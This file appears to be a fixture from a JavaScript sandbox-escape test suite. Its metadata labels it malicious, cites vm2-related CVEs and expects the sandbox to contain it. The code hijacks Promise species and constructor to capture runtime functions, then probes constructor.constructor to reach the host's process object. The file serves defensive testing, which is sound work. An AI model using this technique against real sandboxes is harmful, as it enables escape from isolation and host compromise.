/*---
id: re-promise-species-05-global-hijack
description: "Replaces Promise.prototype.constructor with a species-bearing object before returning, so that if the runtime chains then() on the snippet's promise, the fake executor receives the runtime's own resolve and reject functions."
kind: malicious
category: realm-escape
technique: RE-promise-species
variant: combined
references:
  - "CVE-2023-37466"
  - "CVE-2026-24120"
  - "CVE-2026-47208"
  - "CVE-2026-93606"
  - "CVE-2026-92944"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained }
  high-security: { outcome: contained }
  tenant-isolated: { outcome: contained }
flags: [async]
---*/
const leaked = [];
Promise.prototype.constructor = {
  [Symbol.species]: function Fake(executor) {
    executor((v) => leaked.push(v), (e) => leaked.push(e));
    for (const fn of arguments) leaked.push(fn);
  },
};
Object.defineProperty(Promise, Symbol.species, { get() { return function Fake2(ex) { leaked.push(ex); ex(() => {}, () => {}); }; } });
await null;
for (const v of leaked) {
  if (typeof v !== 'function' && (v === null || typeof v !== 'object')) continue;
  try { if (v.constructor.constructor('return typeof process')() !== 'undefined') console.log('ESCAPED'); } catch (e) {}
}
return 'returned through a tampered Promise';
